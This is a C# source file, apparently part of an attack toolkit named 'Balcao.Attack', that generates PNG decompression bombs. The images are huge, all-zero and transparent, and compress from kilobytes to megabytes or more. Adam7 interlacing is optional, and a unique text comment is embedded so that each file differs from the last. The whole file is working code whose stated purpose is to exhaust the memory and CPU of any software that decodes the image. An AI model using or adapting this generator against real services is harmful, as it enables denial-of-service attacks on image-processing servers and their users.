using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;

namespace Balcao.Attack;

/// <summary>
/// A transparent PNG (W3C, PNG, 3rd edition): of four bytes a pixel, all zero, so that a kilobyte of file becomes a megabyte.
/// </summary>
/// <param name="isInterlaced">In seven passes (Adam7): no part of the picture is complete before the last one.</param>
internal sealed class EmptyPng(int width, int height, bool isInterlaced)
{
    private static readonly (int X, int Y, int Dx, int Dy)[] OnePass = [(0, 0, 1, 1)];

    private static readonly (int X, int Y, int Dx, int Dy)[] SevenPasses = [(0, 0, 8, 8), (4, 0, 8, 8), (0, 4, 4, 8), (2, 0, 4, 4), (0, 2, 2, 4), (1, 0, 2, 2), (0, 1, 1, 2)];

    private readonly byte[] _pixels = Chunk("IDAT"u8, Pixels(width, height, isInterlaced ? SevenPasses : OnePass));

    /// <param name="comment">In the file; different comments make different files.</param>
    public byte[] With(string comment) =>
    [
        0x89, (byte)'P', (byte)'N', (byte)'G', 0x0D, 0x0A, 0x1A, 0x0A,
        .. Chunk("IHDR"u8, Header()), .. Chunk("tEXt"u8, Encoding.ASCII.GetBytes("Comment\0" + comment)), .. _pixels, .. Chunk("IEND"u8, []),
    ];

    private byte[] Header()
    {
        var header = new byte[13];
        BinaryPrimitives.WriteInt32BigEndian(header, width);
        BinaryPrimitives.WriteInt32BigEndian(header.AsSpan(4), height);
        (header[8], header[9], header[12]) = (8, 6, (byte)(isInterlaced ? 1 : 0)); // bits of a channel, red to alpha, interlace
        return header;
    }

    private static byte[] Pixels(int width, int height, (int X, int Y, int Dx, int Dy)[] passes)
    {
        using var packed = new MemoryStream();
        using (var zlib = new ZLibStream(packed, CompressionLevel.Optimal, leaveOpen: true))
        {
            var zeros = new byte[1 << 16];
            // Each row begins with the byte of its filter, of which none is zero too.
            foreach (var pass in passes)
                for (var left = Steps(height, pass.Y, pass.Dy) * (1 + (4 * Steps(width, pass.X, pass.Dx))); left > 0; left -= zeros.Length)
                    zlib.Write(zeros, 0, (int)Math.Min(left, zeros.Length));
        }
        return packed.ToArray();
    }

    private static long Steps(int of, int from, int step) => (of - from + step - 1) / step;

    private static byte[] Chunk(ReadOnlySpan<byte> type, byte[] content)
    {
        var chunk = new byte[12 + content.Length];
        BinaryPrimitives.WriteInt32BigEndian(chunk, content.Length);
        type.CopyTo(chunk.AsSpan(4));
        content.CopyTo(chunk, 8);
        BinaryPrimitives.WriteUInt32BigEndian(chunk.AsSpan(8 + content.Length), Checksum(chunk.AsSpan(4, 4 + content.Length)));
        return chunk;
    }

    private static uint Checksum(ReadOnlySpan<byte> bytes)
    {
        var crc = uint.MaxValue;
        foreach (var b in bytes)
        {
            crc ^= b;
            for (var bit = 0; bit < 8; bit++) crc = (crc & 1) != 0 ? (crc >> 1) ^ 0xEDB8_8320 : crc >> 1;
        }
        return ~crc;
    }
}
